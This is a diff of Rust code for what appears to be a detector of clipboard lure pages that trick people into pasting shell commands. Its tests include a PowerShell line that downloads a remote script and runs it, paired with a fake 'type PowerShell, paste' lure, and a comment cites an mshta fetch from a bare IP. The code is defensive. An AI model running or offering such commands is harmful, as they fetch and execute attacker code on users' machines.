@@ -217,7 +217,6 @@ impl Command {
     /// Fetches from where no installer is published: 2 for a public IP (any scheme) or a share
     /// on one or over WebDAV, 1 for plain `http://` / `ftp://` from another site than the
     /// page's, 0 otherwise. A private, loopback or intranet address is the person's own network.
-    #[inline(never)]
     pub fn lure_fetch(&self, page_site: &str) -> u8 {
         // A WebDAV share on the page's own site is how an IT page maps its drive.
         let unc = self
@@ -413,22 +412,15 @@ fn has(hay: &str, needle: &str) -> bool {
 }
 
 /// `word` occurs in `flat` with no letter or digit on either side.
-fn has_word(flat: &str, word: &str) -> bool {
-    words(flat, word) > 0
-}
-
-/// How often `word` occurs in `flat` with no letter or digit on either side.
 #[inline(never)]
-fn words(flat: &str, word: &str) -> usize {
+fn has_word(flat: &str, word: &str) -> bool {
     let b = flat.as_bytes();
-    flat.match_indices(word)
-        .filter(|(i, _)| {
-            let before = i.checked_sub(1).map(|j| b[j]);
-            let after = b.get(i + word.len()).copied();
-            !before.is_some_and(|x| x.is_ascii_alphanumeric())
-                && !after.is_some_and(|x| x.is_ascii_alphanumeric())
-        })
-        .count()
+    flat.match_indices(word).any(|(i, _)| {
+        let before = i.checked_sub(1).map(|j| b[j]);
+        let after = b.get(i + word.len()).copied();
+        !before.is_some_and(|x| x.is_ascii_alphanumeric())
+            && !after.is_some_and(|x| x.is_ascii_alphanumeric())
+    })
 }
 
 fn has_url(flat: &str) -> bool {
@@ -456,7 +448,6 @@ fn unc_reaches_out(flat: &str) -> bool {
 
 /// A host the internet can serve (of a share or a URL): a dotted name outside the intranet's
 /// suffixes, a public IP (also one decimal or `0x` number), WebDAV's `host@SSL`.
-#[inline(never)]
 fn public_host(host: &str) -> bool {
     const INTRANET: &[&str] = &[
         ".local",
@@ -768,7 +759,6 @@ fn shapes(flat: &str) -> Vec<Shape> {
 }
 
 /// An argument that is a public IP with no scheme (`mshta 198.51.100.3/v`): mshta fetches it.
-#[inline(never)]
 fn public_ip_arg(toks: &[&str]) -> bool {
     toks.iter().any(|t| {
         let host = t.split(['/', ':']).next().unwrap_or("");
@@ -1027,7 +1017,6 @@ pub fn defang(raw: &str) -> String {
 }
 
 /// The registrable domain of a page's address; none for a host that serves anyone's content.
-#[inline(never)]
 fn site_of(url: &str) -> String {
     let host = host_of(url);
     if is_user_content(&host) {
@@ -1123,7 +1112,6 @@ impl PageHits {
 
     /// [`shows`], or the page shows how the copied text starts (32 bytes): a page may add a
     /// line to what a person copies from it ("Read more at …").
-    #[inline(never)]
     fn shows_head(&self, command: &Command) -> bool {
         let f = &command.flat;
         let mut n = f.len().min(32);
@@ -1131,17 +1119,6 @@ impl PageHits {
             n -= 1;
         }
         self.shows(command) || n >= 16 && has(&self.flat, &f[..n])
-    }
-
-    /// The page names a shell window in its own words, in any language ("ketik cmd", "open
-    /// Terminal", "PowerShell (Admin)"): the name is on the page more often than in the command
-    /// where the page shows it.
-    #[inline(never)]
-    fn names_shell(&self, command: &Command) -> bool {
-        let shown = self.flat.matches(command.flat.as_str()).count();
-        ["cmd", "powershell", "terminal", "terminale"]
-            .iter()
-            .any(|w| words(&self.flat, w) > words(&command.flat, w) * shown)
     }
 
     /// The page names `msiexec` in its own words, beside the commands it shows ("msiexec command
@@ -1661,7 +1638,7 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
         });
     let pretext = page_pretext || command.comment_pretext;
     let told = verify >= 1.0 || page.story().next().is_some();
-    let shell_named = page.weight(Cat::RunShell) >= 1.0 || page.names_shell(&command);
+    let shell_named = page.weight(Cat::RunShell) >= 1.0;
     // What a lure copies and no page shows: a command fetching from where no installer publishes
     // (a bare IP, plain http from another site, a share on the internet) or hiding its script,
     // put on the clipboard while the page shows something else or nothing (steps drawn in an
@@ -3431,7 +3408,7 @@ mod tests {
         assert!(reasons(&snap_of(url, "Zoom", steps, clip)).is_some());
         // A story and the Start menu ("type PowerShell"), plain http from another site.
         let clip = "powershell -c \"iwr http://fonts-cdn.example.net/f.ps1 | iex\"";
-        let story = "This document could not be displayed. Click Start, type PowerShell, \
+        let story = "This document cannot be displayed. Click Start, type PowerShell, \
                      right-click to paste.";
         assert!(reasons(&snap_of(url, "Viewer", story, clip)).is_some());
         // Nothing around a `curl | sh` from a bare IP: no verdict.
